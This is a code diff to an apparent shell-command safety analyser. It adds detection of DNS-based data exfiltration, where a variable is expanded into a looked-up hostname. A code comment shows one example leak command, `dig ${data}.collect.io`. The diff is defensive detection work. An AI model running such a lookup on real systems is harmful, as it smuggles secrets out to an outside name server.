@@ -589,9 +589,17 @@ class _Judge:
     # -- DNS -------------------------------------------------------------------
 
     def _dns(self, cmd: Command, name: str, args: list[str]) -> None:
-        if name not in table()["resolve"]["programs"] or name in ("curl", "wget") or not cmd.inner:
+        if name not in table()["resolve"]["programs"] or name in ("curl", "wget"):
             return
         for word in args:
+            if not cmd.inner and "$" in word and not word.startswith("-") and "." in word[word.index("$"):]:
+                # `dig ${data}.collect.io`: whatever the variable holds is looked up by name
+                variable = word[word.index("$"):].split(".", 1)[0]
+                self._leak(word.split(".", 1)[1] if "." in word else "a name server", f"the value of `{variable}`",
+                           f"through a DNS lookup by `{name}`")
+                return
+            if not cmd.inner:
+                continue
             if ("$(" in word or "`" in word) and not word.startswith("-"):
                 target = word.split("$(", 1)[0].split("`", 1)[0]
                 tail = word.rsplit(")", 1)[-1].rsplit("`", 1)[-1]
